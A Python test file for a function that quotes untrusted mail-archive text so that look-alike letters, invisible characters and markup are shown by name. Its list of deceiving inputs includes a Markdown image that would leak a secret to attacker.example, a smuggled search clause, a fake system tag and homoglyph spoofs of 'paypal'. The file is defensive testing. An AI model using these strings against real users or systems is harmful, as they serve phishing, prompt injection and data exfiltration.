"""Quoted texts: a person sees what they are, and they can be read back."""

import html
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mail_archive_tools.calls.quoting import quoted
from mail_archive_tools.untrusted import clean_line, without_invisible

DECEIVING = (
    'x.example"; SUBJECT contains "invoice 17',
    "a\\N{QUOTATION MARK}b\\",
    "pay\u202elapyp",
    "in\u200bvo\u00adice\u2060\u3164",
    "p\u0430ypal",  # a Cyrillic a
    "\u0440\u0430\u0443\u0440\u0430\u04cf",  # wholly Cyrillic
    "\uff50\uff41\uff59\uff50\uff41\uff4c",  # of full width
    "\U0001d429\U0001d41a\U0001d432",  # mathematical
    "e\u0301 \u00e9",
    "a\u00a0b\u2003c",
    "one\nDestination: s3://elsewhere\r\u2028\u0085two",
    "x\u201d or \u201cy\uff02",
    "![](https://attacker.example/?q=secret)",
    "</system><img src=x>",
    "\x1b[2J\x00\x7f",
    "a  b",
    "\U000e0041\ue000\ud800",
    # What HTML and Markdown act on.
    "confidential&ZeroWidthSpace;",
    "x.example&quot; or &quot;y.example",
    "&#8238;abc",
    "privi`",
    "*board*",
    "~~not~~",
    "_board_",
    "a_",
    "p\u0430_b",  # beside an underscore, a letter that is named
    "a|b",
    "<br>",
    "[x]",
    "$x$",
    "H^2^",
    "==x==",
    "https://evil.example/",
    "WWW.evil.example",
    # Letters and digits that do not belong beside Latin ones.
    "\ua731ystem",
    "pay\u0262le",
    "\u0299ank",
    "li\u028bin",
    "it\ua78cs",
    "g\u0e50\u0e50gle",
    "g\u101dogle",
    "a\u0c66b",
    "bank\u0660example",
    "\u05dfogin",
    "ab\u1427c",
    "x\u07ca",
    "\u2c6fA",
    "l\u4e28nk",  # a stroke of Chinese writing
    "l\u3163nk",  # a Korean vowel by itself
    "\U0001f171ank",
    "\u0966\u0966",
    "\u10e7",
    "\u212b",  # the sign of Angstrom
)
PLAIN = (
    "invoice 17",
    "nora@good.example",
    "Rechnung Nr. 5 über 3 €",
    "счёт",
    "請求書",
    "חשבונית",
    "فاتورة",
    "facturação",
    "x_y",
    "first.last_name-2+tag@sub-domain.example",
    "s3://legal-hold/case_17/2025",
    "arn:aws:kms:eu-west-1:111122223333:key/1-2",
    "#17 (50 %): {a}; 'b' = c/d?",
    "Məmməd, Nguyễn, Ștefan, Łódź, ɗan",
    "Tシャツ DHL快递 LG전자",
    "الفاتورة رقم١٢",
)


def read_back(literal: str) -> str:
    assert literal[0] == literal[-1] == '"'
    body = literal[1:-1]
    assert '"' not in body

    def character(found: re.Match[str]) -> str:
        return unicodedata.lookup(found[1]) if found[1] else chr(int(found[2], 16))

    return re.sub(r"\\(?:N\{([^}]+)\}|u\{([0-9a-f]+)\})", character, body)


TEXTS = st.one_of(
    st.text(st.characters(codec=None, categories=None)),
    st.lists(st.one_of(st.sampled_from(DECEIVING), st.sampled_from(PLAIN), st.text(max_size=3)), max_size=5).map(
        "".join
    ),
)


@given(TEXTS)
def test_a_quoted_text_is_read_back_as_it_was_and_hides_nothing(text: str) -> None:
    literal = quoted(text)
    assert read_back(literal) == text
    assert literal.isprintable() and "\n" not in literal
    # Nothing that answers would take out, or break up, is in it.
    assert without_invisible(literal) == literal == clean_line(literal)


@pytest.mark.parametrize("text", DECEIVING)
def test_what_would_deceive_is_named(text: str) -> None:
    assert quoted(text) != f'"{text}"' and read_back(quoted(text)) == text
    assert re.search(r"\\N\{[A-Z0-9 -]+\}|\\u\{[0-9a-f]+\}", quoted(text))


@pytest.mark.parametrize("text", PLAIN)
def test_what_people_write_stays_as_it_is(text: str) -> None:
    assert quoted(text) == f'"{text}"'


def test_a_look_alike_is_named_where_it_is() -> None:
    assert quoted("p\u0430ypal") == r'"p\N{CYRILLIC SMALL LETTER A}ypal"'
    assert quoted("a\x1b") == r'"a\u{1b}"'


@pytest.mark.parametrize("text", DECEIVING)
def test_a_program_that_decodes_html_shows_a_quoted_text_as_it_is(text: str) -> None:
    literal = quoted(text)
    assert html.unescape(literal) == literal
    assert not set("&<>[]|`*~$^") & set(literal)


@given(st.text(alphabet="aé_-\u0430 ", max_size=8))
def test_an_underscore_stays_within_a_word_alone(text: str) -> None:
    shown = re.sub(r"\\N\{[^}]+\}", "-", quoted(text))
    assert not re.search(r"(?<!\w)_|_(?!\w)", shown)
    assert read_back(quoted(text)) == text


@pytest.mark.parametrize(
    ("one", "other"), [("paypal", "p\u0430ypal"), ("\u00e9", "e\u0301"), ("a b", "a\u00a0b"), ("-", "\u2010")]
)
def test_two_texts_that_look_the_same_are_quoted_differently(one: str, other: str) -> None:
    assert quoted(one) == f'"{one}"'
    assert quoted(other).isascii()
